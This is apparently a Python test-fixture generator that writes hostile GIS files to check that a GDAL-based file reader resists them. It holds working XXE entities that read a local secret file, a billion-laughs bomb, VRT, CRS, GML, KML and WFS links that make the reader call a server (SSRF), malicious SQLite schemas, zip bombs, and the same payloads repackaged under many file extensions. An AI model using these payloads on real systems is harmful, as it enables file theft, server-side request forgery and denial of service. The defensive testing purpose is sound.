"""Files that reach for what is not theirs, or are larger than they look: made anew for each run.

`python tests/hostile/make.py FOLDER SECRET URL` writes them all; SECRET is a CSV that no reader
may open through one of them, URL a server that nobody may ask.
"""

import json
import sqlite3
import sys
import zipfile
from contextlib import closing
from pathlib import Path

POINT = {"type": "Point", "coordinates": [106.76, 21.85]}
FEATURE = {"type": "Feature", "properties": {"a": 1}, "geometry": POINT}
# endings under which a reader may meet anything
ENDINGS = (
    *("gml", "geojson", "json", "kml", "kmz", "gpx", "dxf", "dgn", "fgb", "tab", "mif", "shp"),
    *("dbf", "gpkg", "sqlite", "csv", "xlsx", "ods", "parquet", "vrt", "xml", "txt", "zip"),
)


def vrt(source: str) -> bytes:
    """A description of a table elsewhere, as GDAL follows it."""
    return f"""<OGRVRTDataSource><OGRVRTLayer name="secret">
<SrcDataSource relativeToVRT="0">{source}</SrcDataSource><GeometryType>wkbPoint</GeometryType>
<LayerSRS>EPSG:4326</LayerSRS>
<GeometryField encoding="PointFromColumns" x="x" y="y"/></OGRVRTLayer></OGRVRTDataSource>
""".encode()


def behind(content: bytes, count: int) -> bytes:
    """XML with so many bytes of comment before it: out of sight of whoever reads the start."""
    return b"<!--" + b" " * count + b"-->" + content


def geojson(crs: object, name: str = '"crs"') -> bytes:
    """One point whose collection names a reference system."""
    rest = json.dumps({"type": "FeatureCollection", "features": [FEATURE]})[1:]
    return f"{{{name}: {json.dumps(crs)}, {rest}".encode()


def gml(url: str, *, schema: str = "", srs: str = "EPSG:4326", inner: str = "") -> bytes:
    """One point in GML, with whatever points elsewhere."""
    return f"""<?xml version="1.0"?><wfs:FeatureCollection xmlns:wfs="http://www.opengis.net/wfs"
 xmlns:gml="http://www.opengis.net/gml" xmlns:my="http://my" xmlns:xlink="http://www.w3.org/1999/xlink"
 xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="{schema}">
<gml:featureMember><my:t><my:a>1</my:a>{inner}<my:geom><gml:Point srsName="{srs}">
<gml:coordinates>106.76,21.85</gml:coordinates></gml:Point></my:geom></my:t></gml:featureMember>
</wfs:FeatureCollection>""".encode()


def kml(before: str = "", inner: str = "") -> bytes:
    """One placemark, with something before the document or in it."""
    return f"""<?xml version="1.0"?>{before}<kml xmlns="http://www.opengis.net/kml/2.2"><Document>
{inner}<Placemark><name>x</name><Point><coordinates>106.76,21.85</coordinates></Point></Placemark>
</Document></kml>""".encode()


def database(path: Path, statements: list[str]) -> bytes:
    """A SQLite file with what the statements make of it."""
    with closing(sqlite3.connect(path)) as file:
        for statement in statements:
            file.execute(statement)
        file.commit()
    content = path.read_bytes()
    path.unlink()
    return content


def payloads(folder: Path, secret: Path, url: str) -> dict[str, bytes]:
    """Content by name; each asks for the secret, the server, or memory."""
    ask = f"{url}/asked"
    view = [
        "create table t (id integer primary key, geom blob)",
        f"create view v as select id, ogr_geocode('{ask}') as a from t",
    ]
    shape = (
        "insert into sqlite_master values ('table', 's', 's', 0, "
        f"'create virtual table s using VirtualOGR(''{secret}'')')"
    )
    schema = f"http://my {ask}?request=DescribeFeatureType&amp;typename=my:t"
    entity = f'<!DOCTYPE kml [<!ENTITY e SYSTEM "file://{secret}">]>'
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    bomb = f'<!DOCTYPE kml [<!ENTITY l0 "ha">{laughs}]>'
    link = {"type": "link", "properties": {"href": ask, "type": "proj4"}}
    system = {"type": "name", "properties": {"name": ask}}
    work = {"type": "gdal_streamed_alg", "command_line": f"gdal vector pipeline ! read {secret}"}
    return {
        "vrt": vrt(str(secret)),
        "vrt-behind-2k": behind(vrt(str(secret)), 3000),
        "vrt-behind-64k": behind(vrt(str(secret)), 70_000),
        "vrt-of-server": vrt(f"/vsicurl/{ask}.csv"),
        "vrt-with-bom": b"\xef\xbb\xbf" + vrt(str(secret)),
        "wfs": f"<OGRWFSDataSource><URL>{ask}</URL></OGRWFSDataSource>".encode(),
        "gdalg": json.dumps(work).encode(),
        "crs-link": geojson(link),
        "crs-link-of-file": geojson({"type": "link", "properties": {"href": f"file://{secret}"}}),
        "crs-link-escaped": geojson(link, '"\\u0063rs"'),
        "crs-name-url": geojson(system),
        "crs-ref": geojson({"type": "Reference", "href": ask}, '"coordRefSys"'),
        "gml-schema": gml(url, schema=schema),
        "gml-schema-of-file": gml(url, schema=f"http://my file://{secret}"),
        "gml-srs": gml(url, srs=ask),
        "gml-xlink": gml(url, inner=f'<my:b xlink:href="{ask}#x"/>'),
        "kml-entity": kml(entity, "<name>&e;</name>"),
        "kml-laughs": kml(bomb, "<name>&l9;</name>"),
        "kml-network-link": kml(
            inner=f"<NetworkLink><Link><href>{ask}</href></Link></NetworkLink>"
        ),
        "gml-entity": entity.replace("kml", "x").encode() + gml(url)[21:],
        "tab-seamless": f'!table\n!version 300\n\nDefinition Table\n  File "{secret}"\n'
        f'\n"\\IsSeamless" = "TRUE"\n'.encode(),
        "sqlite-virtual": database(folder / "a", [view[0], "pragma writable_schema=on", shape]),
        "sqlite-view": database(folder / "b", view),
    }


def large(folder: Path) -> dict[str, Path]:
    """Files that are small on disk and large in memory."""
    made = {}
    for name, member, count in (
        ("zeros", "a.geojson", 600_000_000),
        ("spaces", "a.kml", 510_000_000),
        ("cells", "a.csv", 510_000_000),
    ):
        made[name] = folder / f"{name}.zip"
        with (
            zipfile.ZipFile(made[name], "w", zipfile.ZIP_DEFLATED, compresslevel=1) as packed,
            packed.open(member, "w", force_zip64=True) as file,
        ):
            for _ in range(count // 10_000_000):
                file.write(b"0" * 10_000_000)
    made["members"] = folder / "members.zip"
    with zipfile.ZipFile(made["members"], "w") as packed:
        for n in range(20_000):
            packed.writestr(f"{n}.txt", "")
    made["nested"] = folder / "nested.zip"
    inner = folder / "inner.kmz"
    with zipfile.ZipFile(inner, "w") as packed:
        packed.writestr("doc.kml", kml())
    for n in range(5):
        outer = folder / f"n{n}.kmz" if n < 4 else made["nested"]
        with zipfile.ZipFile(outer, "w") as packed:
            packed.write(inner, "in.kmz" if n else "doc.kmz")
        inner = outer
    made["columns"] = folder / "columns.geojson"
    wide = {**FEATURE, "properties": {f"c{n}": n for n in range(10_000)}}
    made["columns"].write_text(json.dumps({"type": "FeatureCollection", "features": [wide]}))
    made["cell"] = folder / "cell.geojson"
    long = {**FEATURE, "properties": {"a": "x" * 5_000_000}}
    made["cell"].write_text(json.dumps({"type": "FeatureCollection", "features": [long]}))
    made["workbook"] = folder / "workbook.xlsx"
    with zipfile.ZipFile(made["workbook"], "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("xl/workbook.xml", b"<a>" + b" " * 510_000_000 + b"</a>")
    made["workbook-entity"] = folder / "entity.xlsx"
    with zipfile.ZipFile(made["workbook-entity"], "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("xl/workbook.xml", '<!DOCTYPE a [<!ENTITY e "x">]><a>&e;</a>')
    return made


def disguises(content: bytes, name: str, folder: Path) -> list[Path]:
    """The content under every ending, bare, in a ZIP stored and packed, and in a ZIP in a ZIP."""
    made = []
    for ending in ENDINGS:
        bare = folder / f"{name}.{ending}"
        bare.write_bytes(content)
        made.append(bare)
        for kind, way in (("stored", zipfile.ZIP_STORED), ("packed", zipfile.ZIP_DEFLATED)):
            path = folder / f"{name}-{ending}-{kind}.zip"
            with zipfile.ZipFile(path, "w", way) as packed:
                packed.writestr(f"a.{ending}", content)
            made.append(path)
        kmz = folder / f"{name}-{ending}.kmz"
        with zipfile.ZipFile(kmz, "w", zipfile.ZIP_DEFLATED) as packed:
            packed.write(made[-1], "a.zip")
            packed.writestr("doc.kml", content)
        made.append(kmz)
    return made


if __name__ == "__main__":
    out, secret, url = Path(sys.argv[1]), Path(sys.argv[2]).absolute(), sys.argv[3]
    out.mkdir(parents=True, exist_ok=True)
    for name, content in payloads(out, secret, url).items():
        disguises(content, name, out)
    large(out)
